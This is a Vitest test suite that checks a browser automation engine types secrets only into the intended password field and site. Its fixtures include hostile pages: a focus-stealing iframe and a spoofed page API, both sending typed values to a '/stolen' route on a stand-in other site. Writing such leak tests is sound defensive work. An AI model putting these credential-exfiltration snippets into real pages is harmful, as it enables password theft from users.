// Where a secret gets to in a real browser: into its own field whatever takes the focus meanwhile, and nowhere that is not its place.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { ActionResult, SecretRule } from '../../engine/contract.ts';
import { PAGE_KEY } from './page-api.ts';
import { call, type On, WebRig } from './web.fixture.ts';

const rig = new WebRig();
/** What the other site was sent. */
const stolen: string[] = [];
beforeAll(() => rig.start(), 60_000);
beforeEach(() => {
  stolen.splice(0);
  rig.routes['/stolen'] = (request, response) => {
    stolen.push(request.url ?? '');
    response.end();
  };
});
afterEach(() => rig.endSessions());
afterAll(() => rig.stop());

/** The same server by another name: another site. */
const other = (): string => rig.url.replace('127.0.0.1', 'localhost');

async function fill(on: On, name: string, secret: string, secretRule?: SecretRule): Promise<ActionResult> {
  const { id } = await on.find('textbox', name);
  return await on.session.perform(
    { kind: 'typeSecret', target: id, name: 'password' },
    { ...call(), secret, ...(secretRule === undefined ? {} : { secretRule }) },
  );
}

const valuesOf = async (on: On): Promise<unknown> => {
  const page = on.session.browser?.page as { evaluate(script: string): Promise<unknown> };
  return await page.evaluate(`[...document.querySelectorAll('input')].map(({ value }) => value)`);
};

describe('a secret on its way into a field', () => {
  test.each([
    ['a field of any length', '', 'open sesame'],
    ['a field that takes less', 'maxlength=4', 'open'],
    [
      'a field that works by keys',
      'onkeydown="this.value += event.key" onbeforeinput="event.preventDefault()"',
      'open sesame',
    ],
  ])('is caught by no frame that takes the focus all the time: %s', async (_title, attributes, value) => {
    rig.routes['/thief'] = `<input oninput="fetch('/stolen?' + this.value)">
<script>setInterval(() => document.querySelector('input').focus(), 3)</script>`;
    const on = await rig.on(
      `<input type=password aria-label=Password ${attributes}><iframe src="${other()}/thief"></iframe>`,
    );
    for (let round = 0; round < 3; round += 1) {
      expect(await fill(on, 'Password', 'open sesame')).toEqual({ ok: true });
      expect(await valuesOf(on)).toEqual([value]);
    }
    expect(stolen).toEqual([]);
  });

  test('goes on where the app passes the focus on: one character per field', async () => {
    const box = `<input aria-label=Digit maxlength=1 oninput="setTimeout(() => this.nextElementSibling?.focus())">`;
    const on = await rig.on(box.repeat(4));
    expect(await fill(on, 'Digit', '4938')).toEqual({ ok: true });
    expect(await valuesOf(on)).toEqual(['4', '9', '3', '8']);
  });

  test('does not follow its page to another site while it waits for its field', async () => {
    rig.routes['/other'] =
      `<title>Other</title><input type=password aria-label=Password oninput="fetch('/stolen?' + this.value)">
<script>Object.defineProperty(window, '${PAGE_KEY}', { value: () => ({ enterSecret: (_id, text) => { fetch('/stolen?' + text); return 'done' } }) })</script>`;
    const on = await rig.on(
      `<input type=password aria-label=Password disabled><script>setTimeout(() => { location = '${other()}/other' }, 500)</script>`,
    );
    expect(await fill(on, 'Password', 'open sesame', { sites: [], passwordOnly: true })).toMatchObject({
      ok: false,
      code: 'not-found',
    });
    expect(await on.session.browser?.title()).toBe('Other');
    expect(stolen).toEqual([]);
  });

  test('waits for its field, and is told to the app as input', async () => {
    const on = await rig.on(
      `<input type=password aria-label=Password disabled oninput="document.querySelector('p').textContent = 'got ' + this.value.length"><p role=status></p>
<script>setTimeout(() => { document.querySelector('input').disabled = false }, 400)</script>`,
    );
    expect(await fill(on, 'Password', 'open sesame')).toEqual({ ok: true });
    expect((await on.find('status')).text).toBe('got 11');
  });
});

describe('the place of a secret', () => {
  const field = '<input type=password aria-label=Password>';
  const rule = (...sites: readonly string[]): SecretRule => ({ sites, passwordOnly: true });

  test.each([
    ['nothing', [], false],
    ['its host', ['localhost'], true],
    ['its host and port', ['localhost:PORT'], true],
    ['another port', ['localhost:1'], false],
    ['its origin', ['http://localhost:PORT'], true],
    ['its origin under https', ['https://localhost:PORT'], false],
    ['the end of its name', ['ocalhost'], false],
  ] as const)(
    'is another site, or is not, where the config names %s: %j, %s',
    async (_title, sites, isPlace) => {
      rig.routes['/login'] = field;
      const on = await rig.on('<p>App</p>');
      const port = new URL(rig.url).port;
      for (const url of [`${other()}/login`, `http://sso.localhost:${port}/login`]) {
        // What is below a named host is in it, not in an origin or a host with a port.
        const isBelow = url.includes('sso.');
        if (isBelow && sites[0] !== 'localhost' && isPlace) continue;
        expect(await on.perform({ kind: 'navigate', url })).toEqual({ ok: true });
        const named = sites.map((site) => site.replace('PORT', port));
        const result = await fill(on, 'Password', 'open sesame', rule(...named));
        expect(await valuesOf(on)).toEqual([isPlace ? 'open sesame' : '']);
        if (isPlace) expect(result).toEqual({ ok: true });
        else
          expect(result).toEqual({
            ok: false,
            code: 'refused',
            message: `The secret "password" is not typed into a page of ${new URL(url).origin}; it belongs to ${[rig.url, ...named].join(', ')}. If it may go there, name that host in secrets.password.sites of the config.`,
          });
      }
    },
  );

  test('is a frame that the app wrote itself, and no frame without a site', async () => {
    const html = field.replaceAll(' ', '&#32;');
    const own = await rig.on(`<iframe srcdoc="${html}"></iframe>`);
    expect(await fill(own, 'Password', 'open sesame', rule())).toEqual({ ok: true });
    const blob = await rig.on(
      `<script>onload = () => { const frame = document.body.appendChild(document.createElement('iframe')); frame.src = URL.createObjectURL(new Blob(['${field}'], { type: 'text/html' })) }</script>`,
    );
    expect(await fill(blob, 'Password', 'open sesame', rule())).toEqual({ ok: true });
    for (const frame of [
      `src="data:text/html,${encodeURIComponent(field)}"`,
      // As a mail app shows what a stranger wrote.
      `sandbox="allow-scripts allow-forms" srcdoc="${html}<script>origin = location.origin</script>"`,
    ]) {
      const foreign = await rig.on(`<iframe ${frame}></iframe>`);
      expect(await fill(foreign, 'Password', 'open sesame', rule())).toMatchObject({
        code: 'refused',
        message: expect.stringContaining('into a document of no site; it belongs to http://127'),
      });
    }
  });

  test('is no page in the open when the app is on https, and none at all without an app', async () => {
    rig.routes['/login'] = field;
    for (const [app, belongs] of [
      [{ appUrl: rig.url.replace('http:', 'https:') }, 'belongs to https://127'],
      [{}, 'belongs to no app: the target has no app.url'],
    ] as const) {
      const on = await rig.on(field, app);
      expect(await fill(on, 'Password', 'open sesame', rule())).toMatchObject({
        code: 'refused',
        message: expect.stringContaining(belongs),
      });
      expect(await fill(on, 'Password', 'open sesame', rule(rig.url))).toEqual({ ok: true });
    }
  });

  test.each([
    ['a password field', 'type=password', true],
    ['one that shows its password', 'autocomplete="section-a current-password"', true],
    ['one for a new password', 'autocomplete=new-password', true],
    ['a text field', 'type=text', false],
    ['a field for a code', 'autocomplete=one-time-code', false],
  ] as const)('of a password is %s: %s %s', async (_title, attributes, isPlace) => {
    const on = await rig.on(`<input aria-label=Field ${attributes}>`);
    const result = await fill(on, 'Field', 'open sesame', rule());
    expect(await valuesOf(on)).toEqual([isPlace ? 'open sesame' : '']);
    if (isPlace) expect(result).toEqual({ ok: true });
    else
      expect(result).toMatchObject({
        code: 'refused',
        message: expect.stringMatching(/is a password, and textbox "Field" is no password field/),
      });
    expect(await fill(on, 'Field', 'open sesame', { ...rule(), passwordOnly: false })).toEqual({ ok: true });
  });
});
